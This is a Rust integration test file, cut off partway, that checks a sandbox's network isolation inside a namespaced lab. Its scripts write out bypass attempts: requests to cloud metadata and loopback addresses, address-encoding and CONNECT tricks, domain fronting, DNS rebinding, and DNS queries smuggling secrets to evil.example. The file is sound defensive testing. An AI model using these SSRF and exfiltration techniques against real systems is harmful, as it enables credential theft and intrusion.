//! A session's network, attacked from inside (SPEC §4, §7.2): real clients in real
//! sessions against real servers.
//!
//! Each test builds a *lab*: its own network, mount and PID namespaces (`unshare`, see
//! `run_network/lab.sh`) holding "the internet" (203.0.113.10: api.test, git.test,
//! ssh.test, other.test), the host's resolver (203.0.113.53, which logs every query),
//! and services that must stay out of reach (the host's loopback, cloud metadata, a
//! private network). `warden run` runs inside the lab exactly as on a host; the lab dies
//! with the test, leaving nothing behind.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

mod control_common;
mod run_common;

use control_common::ControlServer;
use run_common::*;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

const LAB_PY: &str = include_str!("run_network/lab.py");
const LAB_SH: &str = include_str!("run_network/lab.sh");

const HOSTS: &str = "127.0.0.1\tlocalhost\n\
203.0.113.10\tapi.test git.test ssh.test other.test\n\
127.0.0.1\tloop.test\n\
169.254.169.254\tmeta.test\n\
10.1.2.3\tprivate.test\n";

/// Allows the lab's public names; loop/meta/private.test are allowed *by name* so that
/// only the address check stands between the session and those services.
const NET: &str = r#"
[network]
allow = ["api.test", "git.test:443", "ssh.test:2222", "loop.test", "meta.test", "private.test", "rebind.test"]
"#;

/// Exports that make the session's clients trust the lab's certificate.
const TRUST: &str = "export SSL_CERT_FILE=$PWD/ca.crt CURL_CA_BUNDLE=$PWD/ca.crt \
GIT_SSL_CAINFO=$PWD/ca.crt NODE_EXTRA_CA_CERTS=$PWD/ca.crt REQUESTS_CA_BUNDLE=$PWD/ca.crt\n";

const SECRETS: [&str; 3] = ["HOST-LOOPBACK-SECRET", "METADATA-SECRET", "PRIVATE-SECRET"];

struct Lab {
    env: Env,
    dir: PathBuf,
}

fn sh(cmd: &mut Command) {
    let o = cmd.output().unwrap();
    assert!(o.status.success(), "{cmd:?}: {}", text(&o));
}

impl Lab {
    fn new(b: B, policy: &str) -> Option<Lab> {
        Lab::with(Env::new_for(b, policy))
    }

    fn with(env: Env) -> Option<Lab> {
        if !is_root() {
            eprintln!("\n!!!!! SKIPPING: the network lab needs root (unshare --net) !!!!!\n");
            return None;
        }
        let dir = env.dir.path().canonicalize().unwrap().join("lab");
        let www = dir.join("www");
        std::fs::create_dir_all(&www).unwrap();
        std::fs::write(dir.join("lab.py"), LAB_PY).unwrap();
        std::fs::write(dir.join("lab.sh"), LAB_SH).unwrap();
        std::fs::write(dir.join("hosts"), HOSTS).unwrap();
        std::fs::write(
            dir.join("resolv.conf"),
            "nameserver 203.0.113.53\noptions timeout:1 attempts:1\n",
        )
        .unwrap();
        // The lab's CA and a certificate for its HTTPS names.
        sh(Command::new("openssl")
            .args(["req", "-x509", "-newkey", "ec", "-pkeyopt"])
            .args(["ec_paramgen_curve:prime256v1", "-nodes", "-days", "2"])
            .args(["-subj", "/CN=lab CA"])
            .arg("-keyout")
            .arg(dir.join("ca.key"))
            .arg("-out")
            .arg(dir.join("ca.crt")));
        sh(Command::new("openssl")
            .args(["req", "-new", "-newkey", "ec", "-pkeyopt"])
            .args(["ec_paramgen_curve:prime256v1", "-nodes", "-subj", "/CN=lab"])
            .arg("-keyout")
            .arg(dir.join("cert.key"))
            .arg("-out")
            .arg(dir.join("cert.csr")));
        std::fs::write(
            dir.join("ext.cnf"),
            "basicConstraints=CA:FALSE\nsubjectAltName=DNS:api.test,DNS:git.test\n",
        )
        .unwrap();
        sh(Command::new("openssl")
            .args(["x509", "-req", "-days", "2", "-in"])
            .arg(dir.join("cert.csr"))
            .arg("-CA")
            .arg(dir.join("ca.crt"))
            .arg("-CAkey")
            .arg(dir.join("ca.key"))
            .arg("-CAcreateserial")
            .arg("-extfile")
            .arg(dir.join("ext.cnf"))
            .arg("-out")
            .arg(dir.join("cert.crt")));
        std::fs::copy(dir.join("ca.crt"), env.ws.join("ca.crt")).unwrap();
        // A repository served over "dumb" HTTPS.
        let src = dir.join("src");
        std::fs::create_dir_all(&src).unwrap();
        std::fs::write(src.join("README"), "lab repo\n").unwrap();
        let git = |args: &[&str], cwd: &Path| {
            sh(Command::new("git")
                .args(["-c", "user.name=lab", "-c", "user.email=lab@test"])
                .args(["-c", "init.defaultBranch=main"])
                .args(args)
                .current_dir(cwd));
        };
        git(&["init", "-q"], &src);
        git(&["add", "README"], &src);
        git(&["commit", "-qm", "lab"], &src);
        git(&["clone", "-q", "--bare", "src", "www/repo.git"], &dir);
        git(&["update-server-info"], &www.join("repo.git"));
        Some(Lab { env, dir })
    }

    /// The lab command around `warden run [extra] -- sh -c script`.
    fn command(&self, extra: &[&str], script: &str) -> Command {
        self.wrap(self.env.cmd(extra, &["/bin/sh", "-c", script]))
    }

    /// [`Lab::command`] without `--policy`: on an enrolled machine the session runs
    /// under the central policy alone.
    fn command_central(&self, script: &str) -> Command {
        let with = self.env.cmd(&[], &["/bin/sh", "-c", script]);
        let mut inner = Command::new(with.get_program());
        let mut args = with.get_args();
        while let Some(a) = args.next() {
            if a == "--policy" {
                args.next();
            } else {
                inner.arg(a);
            }
        }
        for (k, v) in with.get_envs() {
            match v {
                Some(v) => inner.env(k, v),
                None => inner.env_remove(k),
            };
        }
        self.wrap(inner)
    }

    /// Make `url` (`http://127.0.0.1:PORT`, a server on the real host) reachable at the
    /// same address inside the lab: lab.py listens there and relays each connection
    /// over a Unix socket to a thread here that dials the server.
    fn forward_to_host(&self, url: &str) {
        let port: u16 = url.rsplit(':').next().unwrap().parse().unwrap();
        let sock = self.dir.join("control.sock");
        let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(lab_side) = conn else { return };
                let Ok(host_side) = std::net::TcpStream::connect(("127.0.0.1", port)) else {
                    continue;
                };
                let (mut a, mut b) = (
                    lab_side.try_clone().unwrap(),
                    host_side.try_clone().unwrap(),
                );
                std::thread::spawn(move || {
                    let _ = std::io::copy(&mut a, &mut b);
                    let _ = b.shutdown(std::net::Shutdown::Both);
                });
                let (mut a, mut b) = (host_side, lab_side);
                std::thread::spawn(move || {
                    let _ = std::io::copy(&mut a, &mut b);
                    let _ = b.shutdown(std::net::Shutdown::Both);
                });
            }
        });
        std::fs::write(
            self.dir.join("forward"),
            format!("{port} {}", sock.display()),
        )
        .unwrap();
    }

    /// `inner` run inside the lab's namespaces.
    fn wrap(&self, inner: Command) -> Command {
        let mut c = Command::new("unshare");
        c.args(["--net", "--mount", "--pid", "--fork", "--kill-child"])
            .args(["--mount-proc", "--propagation", "private", "--", "sh"])
            .arg(self.dir.join("lab.sh"))
            .arg(&self.dir)
            .arg(inner.get_program())
            .args(inner.get_args());
        for (k, v) in inner.get_envs() {
            match v {
                Some(v) => c.env(k, v),
                None => c.env_remove(k),
            };
        }
        c.current_dir(&self.env.ws).stdin(Stdio::null());
        c
    }

    fn run(&self, script: &str) -> Output {
        self.command(&[], script).output().unwrap()
    }

    fn log(&self, name: &str) -> String {
        std::fs::read_to_string(self.dir.join(name)).unwrap_or_default()
    }

    fn exit(&self) -> Option<i32> {
        self.log("exit").trim().parse().ok()
    }

    fn wait_for(&self, path: &Path, within: Duration) {
        let t = Instant::now();
        while !path.exists() {
            assert!(t.elapsed() < within, "{} did not appear", path.display());
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn events(&self) -> Vec<serde_json::Value> {
        self.env.audit_events()
    }
}

/// The line of `out` starting with `label:`.
fn line<'a>(out: &'a str, label: &str) -> &'a str {
    out.lines()
        .find(|l| l.starts_with(&format!("{label}:")))
        .unwrap_or_else(|| panic!("no {label}: line in\n{out}"))
}

fn network_events<'a>(
    events: &'a [serde_json::Value],
    action: &'a str,
) -> impl Iterator<Item = &'a serde_json::Value> + 'a {
    events
        .iter()
        .filter(move |e| e["surface"] == "network" && e["action"] == action)
}

fn real_clients_reach_allowed_hosts_by_proxy_and_transparently(b: B) {
    let Some(lab) = Lab::new(b, &format!("{BASE}{NET}")) else {
        return;
    };
    let script = format!(
        r#"{TRUST}
echo "curl-proxy-http: $(curl -sS -m 10 http://api.test/hello/1 2>&1)"
echo "curl-proxy-https: $(curl -sS -m 10 https://api.test/hello/2 2>&1)"
echo "curl-tun-https: $(curl -sS -m 10 --noproxy '*' https://api.test/hello/3 2>&1)"
echo "curl-tun-http: $(curl -sS -m 10 --noproxy '*' http://api.test/hello/4 2>&1)"
echo "curl-tun-v6: $(curl -sS -m 10 --noproxy '*' -6 http://api.test/hello/v6 2>&1)"
python3 - <<'EOF'
import socket, urllib.request
print("py-urllib:", urllib.request.urlopen("https://api.test/hello/5", timeout=10).read().decode())
s = socket.create_connection(("api.test", 80), timeout=10)
s.sendall(b"GET /hello/6 HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
data = b""
while True:
    d = s.recv(4096)
    if not d:
        break
    data += d
print("py-raw:", data.decode().split("\r\n\r\n", 1)[1])
s = socket.create_connection(("ssh.test", 2222), timeout=10)
print("py-banner-tun:", s.recv(100).decode().strip())
p = socket.create_connection(("127.0.0.1", 3128), timeout=10)
p.sendall(b"CONNECT ssh.test:2222 HTTP/1.1\r\nHost: ssh.test:2222\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    head += p.recv(1)
rest = p.recv(100)
print("py-banner-connect:", head.split(b"\r\n")[0].decode(), rest.decode().strip())
EOF
node -e 'fetch("https://api.test/hello/7").then(r => r.text()).then(t => console.log("node-fetch:", t)).catch(e => console.log("node-fetch: ERR", e.cause || e))'
git clone -q https://git.test/repo.git cloned 2>&1 && echo "git: $(cat cloned/README)"
"#
    );
    let o = lab.run(&script);
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(out.contains("py-banner-connect:"), "{}", text(&o));
    for (label, n) in [
        ("curl-proxy-http", "1"),
        ("curl-proxy-https", "2"),
        ("curl-tun-https", "3"),
        ("curl-tun-http", "4"),
        ("curl-tun-v6", "v6"),
        ("py-urllib", "5"),
        ("py-raw", "6"),
        ("node-fetch", "7"),
    ] {
        assert!(
            line(&out, label).ends_with(&format!("public says hello to api.test /hello/{n}")),
            "{label}: {}",
            text(&o)
        );
    }
    assert!(
        line(&out, "py-banner-tun").ends_with("SSH-2.0-lab"),
        "{}",
        text(&o)
    );
    assert!(
        line(&out, "py-banner-connect").ends_with("200 Connection established SSH-2.0-lab")
            || line(&out, "py-banner-connect").contains(" 200 ")
                && line(&out, "py-banner-connect").ends_with("SSH-2.0-lab"),
        "{}",
        text(&o)
    );
    assert_eq!(line(&out, "git"), "git: lab repo", "{}", text(&o));

    // Both doors are audited with the name, the dialled address, and the byte counts.
    let events = lab.events();
    for via in ["proxy", "tun"] {
        let c = network_events(&events, "connect")
            .find(|e| e["via"] == via && e["target"] == "api.test:443")
            .unwrap_or_else(|| panic!("no {via} connect to api.test:443: {events:#?}"));
        assert_eq!(c["decision"], "allow");
        assert_eq!(c["address"], "203.0.113.10:443", "{c}");
        let closed = network_events(&events, "close")
            .find(|e| e["conn"] == c["conn"])
            .unwrap_or_else(|| panic!("no close for {c}"));
        assert!(
            closed["bytes_up"].as_u64().unwrap() > 0 && closed["bytes_down"].as_u64().unwrap() > 0,
            "{closed}"
        );
        assert!(closed["duration_ms"].is_u64(), "{closed}");
    }
    assert!(
        network_events(&events, "dns")
            .any(|e| e["target"] == "api.test" && e["decision"] == "allow"),
        "{events:#?}"
    );
}

fn bypass_attempts_reach_nothing(b: B) {
    let Some(lab) = Lab::new(b, &format!("{BASE}{NET}")) else {
        return;
    };
    let script = format!(
        r#"{TRUST}
t() {{ label=$1; shift; s=$(date +%s%N); r=$("$@" 2>&1 | head -c 400 | tr '\n' ' '); echo "$label: $r ($(( ($(date +%s%N) - s) / 1000000 )) ms)"; }}
t raw-ip-tun curl -sS -m 5 --noproxy '*' http://203.0.113.10/hello/raw
t raw-ip-proxy curl -sS -m 5 http://203.0.113.10/hello/raw
t mapped-tun curl -sS -m 5 --noproxy '*' -g 'http://[::ffff:203.0.113.10]/hello/mapped'
t mapped-proxy curl -sS -m 5 -g 'http://[::ffff:127.0.0.1]/'
t nat64-tun curl -sS -m 5 --noproxy '*' -g 'http://[64:ff9b::7f00:1]/'
t v6-proxy curl -sS -m 5 -g 'http://[2001:db8::1]/'
t metadata-tun curl -sS -m 5 --noproxy '*' http://169.254.169.254/
t metadata-proxy curl -sS -m 5 http://169.254.169.254/
t metadata-name curl -sS -m 5 http://meta.test/
t metadata-name-tun curl -sS -m 5 --noproxy '*' http://meta.test/
t loopback-name curl -sS -m 5 http://loop.test/
t loopback-name-tun curl -sS -m 5 --noproxy '*' http://loop.test/
t loopback-raw curl -sS -m 5 --noproxy '*' http://127.0.0.1/
t private-name curl -sS -m 5 http://private.test/
t private-raw-tun curl -sS -m 5 --noproxy '*' http://10.1.2.3/
t not-allowed curl -sS -m 5 http://other.test/hello/other
t not-allowed-tun curl -sS -m 5 --noproxy '*' http://other.test/hello/other
t port curl -sS -m 5 -p http://api.test:2222/
t port-tun curl -sS -m 5 --noproxy '*' http://api.test:2222/
t userinfo curl -sS -m 5 'http://api.test@other.test/hello/userinfo'
t idn curl -sS -m 5 http://аpi.test/hello/idn
t case-dot curl -sS -m 5 http://API.Test./hello/case
python3 - <<'EOF'
import socket, ssl
def proxy(req):
    p = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    p.sendall(req)
    return p
def status(p):
    head = b""
    while b"\r\n\r\n" not in head:
        d = p.recv(1)
        if not d:
            break
        head += d
    return head.split(b"\r\n")[0].decode()
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
# SNI that disagrees with the CONNECT host (domain fronting).
p = proxy(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
print("sni-connect-status:", status(p))
try:
    t = ctx.wrap_socket(p, server_hostname="other.test")
    t.sendall(b"GET /hello/fronted HTTP/1.1\r\nHost: other.test\r\n\r\n")
    print("sni-mismatch:", "FRONTED", t.recv(200))
except OSError as e:
    print("sni-mismatch: refused", e)
# The same through the TUN: connect to api.test, say other.test.
try:
    s = socket.create_connection(("api.test", 443), timeout=10)
    t = ctx.wrap_socket(s, server_hostname="other.test")
    t.sendall(b"GET /hello/fronted-tun HTTP/1.1\r\nHost: other.test\r\n\r\n")
    print("sni-mismatch-tun:", "FRONTED", t.recv(200))
except OSError as e:
    print("sni-mismatch-tun: refused", e)
# Host header that disagrees with the request target.
p = proxy(b"GET http://api.test/hello/hostmismatch HTTP/1.1\r\nHost: other.test\r\n\r\n")
print("host-mismatch:", status(p))
# Hostname tricks in CONNECT.
for target in [b"api.test%00.other.test:443", b"api.test\x00.other.test:443", b"other.test@api.test:443", b"api.test.:443", b"[::ffff:203.0.113.10]:443"]:
    p = proxy(b"CONNECT " + target + b" HTTP/1.1\r\nHost: x\r\n\r\n")
    print("connect-trick:", repr(target), status(p))
EOF
"#
    );
    let o = lab.run(&script);
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    for s in SECRETS {
        assert!(!out.contains(s), "{s} reached the session: {}", text(&o));
    }
    assert!(!out.contains("FRONTED"), "{}", text(&o));
    // Proxy refusals are 403s naming the rule; TUN refusals close the connection.
    for label in [
        "raw-ip-proxy",
        "mapped-proxy",
        "v6-proxy",
        "metadata-proxy",
        "metadata-name",
        "loopback-name",
        "private-name",
        "not-allowed",
        "port",
        "userinfo",
        "idn",
    ] {
        let l = line(&out, label);
        assert!(
            l.contains("403") || l.contains("denied") || l.contains("Forbidden"),
            "{l}\n{}",
            text(&o)
        );
    }
    for label in [
        "raw-ip-tun",
        "mapped-tun",
        "nat64-tun",
        "metadata-tun",
        "metadata-name-tun",
        "loopback-name-tun",
        "loopback-raw",
        "private-raw-tun",
        "not-allowed-tun",
        "port-tun",
    ] {
        let l = line(&out, label);
        assert!(!l.contains("says hello"), "{l}\n{}", text(&o));
        assert!(l.contains("curl: ("), "{l}\n{}", text(&o));
    }
    assert!(
        line(&out, "case-dot").ends_with("public says hello to API.Test. /hello/case")
            || line(&out, "case-dot").contains("says hello"),
        "{}",
        text(&o)
    );
    assert!(
        line(&out, "sni-connect-status").contains("200"),
        "{}",
        text(&o)
    );
    assert!(
        line(&out, "sni-mismatch").contains("refused"),
        "{}",
        text(&o)
    );
    assert!(
        line(&out, "sni-mismatch-tun").contains("refused"),
        "{}",
        text(&o)
    );
    assert!(line(&out, "host-mismatch").contains(" 400"), "{}", text(&o));
    for l in out.lines().filter(|l| l.starts_with("connect-trick:")) {
        let allowed_spelling = l.contains("b'api.test.:443'");
        assert_eq!(
            l.contains(" 200 "),
            allowed_spelling,
            "only the trailing-dot spelling of an allowed name may connect: {l}\n{}",
            text(&o)
        );
    }
    // Upstream saw only the one allowed request, never a fronted or tricked one.
    let hits = lab.log("hits.log");
    assert!(
        !hits.contains("other") && !hits.contains("raw") && !hits.contains("mapped"),
        "{hits}"
    );
    assert!(
        !hits.contains("fronted") && !hits.contains("hostmismatch"),
        "{hits}"
    );
    for s in SECRETS {
        assert!(!hits.contains(s), "{s} was contacted: {hits}");
    }
    // Every refusal is on record.
    let events = lab.events();
    let denied: Vec<&str> = events
        .iter()
        .filter(|e| e["surface"] == "network" && e["decision"] == "deny")
        .filter_map(|e| e["target"].as_str())
        .collect();
    for t in [
        "203.0.113.10",
        "169.254.169.254",
        "meta.test",
        "loop.test",
        "private.test",
        "10.1.2.3",
        "other.test",
        "api.test:2222",
    ] {
        assert!(
            denied.iter().any(|d| d.contains(t)),
            "no deny recorded for {t}: {denied:#?}"
        );
    }
}

fn dns_exfiltration_never_leaves_and_only_a_and_aaaa_are_answered(b: B) {
    let Some(lab) = Lab::new(b, &format!("{BASE}{NET}")) else {
        return;
    };
    let script = r#"python3 - <<'EOF'
import random, socket, struct
for n in ["c2VjcmV0LWRhdGE.exfil.other.test", "c2VjcmV0.exfil.evil.example", "api.test.exfil.evil.example"]:
    try:
        socket.getaddrinfo(n, 80)
        print("resolved:", n)
    except OSError as e:
        print("not-resolved:", n)
def query(server, name, qtype, family=socket.AF_INET):
    q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    q += struct.pack("!HH", qtype, 1)
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, (server, 53))
    try:
        r = s.recv(4096)
        rcode = r[3] & 0xF
        ancount = struct.unpack("!H", r[6:8])[0]
        return "rcode=%d answers=%d" % (rcode, ancount)
    except socket.timeout:
        return "timeout"
# Straight at the session's resolver, at the host's resolver address, at a public one.
for server in ["127.0.0.1", "203.0.113.53", "8.8.8.8"]:
    print("raw-%s:" % server, query(server, "rawsecret.exfil.evil.example", 1))
print("raw-v6:", query("2001:4860:4860::8888", "v6secret.exfil.evil.example", 28, socket.AF_INET6))
print("txt-allowed:", query("127.0.0.1", "api.test", 16))
print("a-allowed:", query("127.0.0.1", "api.test", 1))
print("aaaa-allowed:", query("127.0.0.1", "api.test", 28))
EOF
"#;
    let o = lab.run(script);
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(
        !out.lines().any(|l| l.starts_with("resolved:")),
        "{}",
        text(&o)
    );
    for label in ["raw-127.0.0.1", "raw-203.0.113.53", "raw-8.8.8.8", "raw-v6"] {
        assert!(
            line(&out, label).ends_with("rcode=3 answers=0"),
            "{label} must be NXDOMAIN from Warden: {}",
            text(&o)
        );
    }
    assert!(
        line(&out, "txt-allowed").ends_with("answers=0"),
        "{}",
        text(&o)
    );
    assert!(
        line(&out, "a-allowed").ends_with("rcode=0 answers=1"),
        "{}",
        text(&o)
    );
    assert!(
        line(&out, "aaaa-allowed").ends_with("rcode=0 answers=1"),
        "{}",
        text(&o)
    );
    // The host's resolver never heard of any of it.
    let dns = lab.log("dns.log");
    assert!(
        !dns.contains("exfil") && !dns.contains("secret"),
        "a query left the machine: {dns}"
    );
    let events = lab.events();
    assert!(
        network_events(&events, "dns").any(
            |e| e["decision"] == "deny" && e["target"].as_str().unwrap_or("").contains("exfil")
        ),
        "{events:#?}"
    );
}

fn a_rebinding_name_is_resolved_once_and_the_checked_address_dialled(b: B) {
    let Some(lab) = Lab::new(b, &format!("{BASE}{NET}")) else {
        return;
    };
    let script = r#"
for i in 1 2 3 4; do echo "proxy-$i: $(curl -sS -m 5 http://rebind.test/hello/r$i 2>&1)"; done
for i in 5 6 7 8; do echo "tun-$i: $(curl -sS -m 5 --noproxy '*' http://rebind.test/hello/r$i 2>&1)"; done
"#;
    let o = lab.run(script);
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(!out.contains("HOST-LOOPBACK-SECRET"), "{}", text(&o));
    // The lab's resolver alternates public and loopback answers: some requests go
    // through, the others are refused; none reaches the loopback service.
    assert!(out.contains("public says hello"), "{}", text(&o));
    let hits = lab.log("hits.log");
    assert!(!hits.contains("HOST-LOOPBACK-SECRET"), "{hits}");
    let events = lab.events();
    assert!(
        events.iter().any(|e| e["surface"] == "network"
            && e["decision"] == "deny"
            && e["target"]
                .as_str()
                .unwrap_or("")
                .starts_with("rebind.test")
            && e["reason"].as_str().unwrap_or("").contains("loopback")),
        "{events:#?}"
    );
}

fn udp_and_icmp_never_leave_and_are_recorded(b: B) {
    let Some(lab) = Lab::new(b, &format!("{BASE}{NET}")) else {
        return;
    };
    let script = r#"python3 - <<'EOF'
import socket, time
for dst in [("203.0.113.10", 9999), ("api.test", 9999)]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(3):
        s.sendto(b"leak-" + dst[0].encode(), dst)
s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s6.sendto(b"leak-v6", ("64:ff9b::cb00:710a", 9999))
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        i = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        i.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("203.0.113.10", 0))
        print("icmp-sent:", kind)
    except OSError as e:
        print("icmp-refused:", kind, e)
time.sleep(0.5)
print("done:")
EOF
"#;
    let o = lab.run(script);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(stdout(&o).contains("done:"), "{}", text(&o));
    assert_eq!(lab.log("udp.log"), "", "UDP left the session");
    let events = lab.events();
    assert!(
        network_events(&events, "udp").any(|e| e["decision"] == "deny"
            && e["target"].as_str().unwrap_or("").contains("9999")),
        "{events:#?}"
    );
}

fn http_method_and_path_rules_apply_to_plain_http(b: B) {
    let policy = format!(
        "{BASE}{NET}\n[[network.http]]\nhost = \"api.test\"\nmethods = [\"GET\"]\npaths = [\"/hello/**\"]\n"
    );
    let Some(lab) = Lab::new(b, &policy) else {
        return;
    };
    let script = r#"
c() { curl -sS -m 5 -w ' [%{http_code}]' "$@" 2>&1; }
echo "get-ok: $(c http://api.test/hello/ok | tr '\n' ' ')"
echo "get-other-path: $(c http://api.test/admin | tr '\n' ' ')"
echo "post: $(c -d x=1 http://api.test/hello/post | tr '\n' ' ')"
echo "dotdot: $(c --path-as-is http://api.test/hello/../admin | tr '\n' ' ')"
"#;
    let o = lab.run(script);
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(line(&out, "get-ok").contains("says hello"), "{}", text(&o));
    for l in ["get-other-path", "post", "dotdot"] {
        assert!(line(&out, l).ends_with("[403]"), "{}", text(&o));
    }
    let hits = lab.log("hits.log");
    assert!(!hits.contains("admin") && !hits.contains("POST"), "{hits}");
}

fn audit_mode_blocks_nothing_and_records_would_be_denies(b: B) {
    let Some(lab) = Lab::new(b, &format!("mode = \"audit\"\n{BASE}{NET}")) else {
        return;
    };
    let o = lab.run(
        "echo \"other: $(curl -sS -m 5 http://other.test/hello/audit 2>&1)\"\n\
         echo \"other-tun: $(curl -sS -m 5 --noproxy '*' http://other.test/hello/audit-tun 2>&1)\"",
    );
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(line(&out, "other").contains("says hello"), "{}", text(&o));
    assert!(
        line(&out, "other-tun").contains("says hello"),
        "{}",
        text(&o)
    );
    let events = lab.events();
    let would = network_events(&events, "connect")
        .find(|e| e["target"] == "other.test:80" && e["decision"] == "deny")
        .unwrap_or_else(|| panic!("{events:#?}"));
    assert_eq!(would["enforced"], false, "{would}");
}

fn policy_changes_apply_to_new_connections_and_an_invalid_one_is_refused(b: B) {
    let Some(lab) = Lab::new(b, &format!("{BASE}{NET}")) else {
        return;
    };
    let ws = lab.env.ws.clone();
    let script = r#"
echo "before: $(curl -sS -m 5 http://other.test/hello/before 2>&1)"
touch phase1
while [ ! -e phase2 ]; do sleep 0.02; done
i=0
while :; do
    out=$(curl -sS -m 5 http://other.test/hello/after 2>&1)
    case "$out" in *"says hello"*) break;; esac
    i=$((i + 1)); [ "$i" -gt 100 ] && break
    sleep 0.05
done
echo "after: $out (attempts $i)"
touch phase3
while [ ! -e phase4 ]; do sleep 0.02; done
sleep 1.5
echo "invalid: $(curl -sS -m 5 http://other.test/hello/kept 2>&1)"
"#;
    let child = lab
        .command(&[], script)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    lab.wait_for(&ws.join("phase1"), Duration::from_secs(60));
    let widened =
        format!("{BASE}{NET}").replace("\"rebind.test\"", "\"rebind.test\", \"other.test\"");
    std::fs::write(
        &lab.env.policy,
        format!("version = 1\nname = \"test\"\n{widened}"),
    )
    .unwrap();
    let changed = Instant::now();
    std::fs::write(ws.join("phase2"), "").unwrap();
    lab.wait_for(&ws.join("phase3"), Duration::from_secs(60));
    let took = changed.elapsed();
    std::fs::write(&lab.env.policy, "version = 1\n[network\nallow = [").unwrap();
    std::fs::write(ws.join("phase4"), "").unwrap();
    let o = child.wait_with_output().unwrap();
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(line(&out, "before").contains("denied"), "{}", text(&o));
    assert!(line(&out, "after").contains("says hello"), "{}", text(&o));
    assert!(line(&out, "invalid").contains("says hello"), "{}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("is invalid"), "{}", text(&o));
    eprintln!("new policy in force after {took:?} (includes the session noticing phase2)");
    let events = lab.events();
    assert!(
        events.iter().any(|e| e["action"] == "policy_reload"),
        "{events:#?}"
    );
}

fn killing_warden_ends_the_session_and_its_network(b: B) {
    let Some(lab) = Lab::new(b, &format!("{BASE}{NET}")) else {
        return;
    };
    let ws = lab.env.ws.clone();
    let script = "while :; do curl -s -m 1 --noproxy '*' http://api.test/hello/loop >> loop.log; echo >> loop.log; sleep 0.05; done";
    let child = lab
        .command(&[], script)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let t = Instant::now();
    while std::fs::read_to_string(ws.join("loop.log"))
        .unwrap_or_default()
        .matches("says hello")
        .count()
        < 3
    {
        assert!(
            t.elapsed() < Duration::from_secs(60),
            "the loop never got through"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    std::fs::write(lab.dir.join("kill"), "").unwrap();
    let o = child.wait_with_output().unwrap();
    assert_eq!(lab.exit(), Some(137), "{}", text(&o));
    let left = lab.log("left");
    assert!(
        !left
            .lines()
            .any(|l| l.starts_with("/bin/sh -c") || l.starts_with("curl")),
        "session processes outlived warden: {left}"
    );
    let before = std::fs::read_to_string(ws.join("loop.log")).unwrap();
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(
        before,
        std::fs::read_to_string(ws.join("loop.log")).unwrap()
    );
}

fn unprivileged_sessions_keep_the_proxy_and_never_gain_a_route(b: B) {
    if !is_root() {
        return;
    }
    let Some(lab) = Lab::with(Env::unprivileged_for(b, &format!("{BASE}{NET}"))) else {
        return;
    };
    let script = r#"
echo "proxy: $(curl -sS -m 10 http://api.test/hello/unpriv 2>&1)"
echo "raw: $(curl -sS -m 5 --noproxy '*' http://203.0.113.10/hello/raw 2>&1)"
"#;
    let o = lab.run(script);
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(line(&out, "proxy").contains("says hello"), "{}", text(&o));
    assert!(!line(&out, "raw").contains("says hello"), "{}", text(&o));
    let tun_usable = std::fs::metadata("/dev/net/tun")
        .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o006 == 0o006)
        .unwrap_or(false);
    if !tun_usable {
        // No TUN for this user: no route at all, and the user is told why.
        assert!(line(&out, "raw").contains("curl: (7)"), "{}", text(&o));
        assert!(
            String::from_utf8_lossy(&o.stderr).contains("/dev/net/tun"),
            "{}",
            text(&o)
        );
    }
}

/// The real token of the credentials test; the session must never see it.
const REAL_TOKEN: &str = "lab-real-token-5f1e9c2a7b";

fn the_agent_holds_a_placeholder_and_the_proxy_swaps_it_only_for_the_bound_host(b: B) {
    let Some(probe) = Lab::new(b, "") else { return };
    let cert = probe.dir.join("ca.crt");
    let policy = format!(
        r#"{BASE}{NET}
[tls]
intercept = "all"
extra_roots = ["{cert}"]

[[credentials]]
name = "api"
source = "env:LAB_TOKEN"
hosts = ["api.test"]
env = "API_TOKEN"
"#,
        cert = cert.display()
    );
    std::fs::write(
        &probe.env.policy,
        format!("version = 1\nname = \"test\"\n{policy}"),
    )
    .unwrap();
    let lab = probe;
    // Say the agent learned the real value somehow: sending it out is still refused.
    std::fs::write(lab.env.ws.join("leaked.txt"), REAL_TOKEN).unwrap();
    let script = r#"
echo "env: $API_TOKEN"
c() { curl -sS -m 10 -w ' [%{http_code}]' "$@" 2>&1 | tr '\n' ' '; }
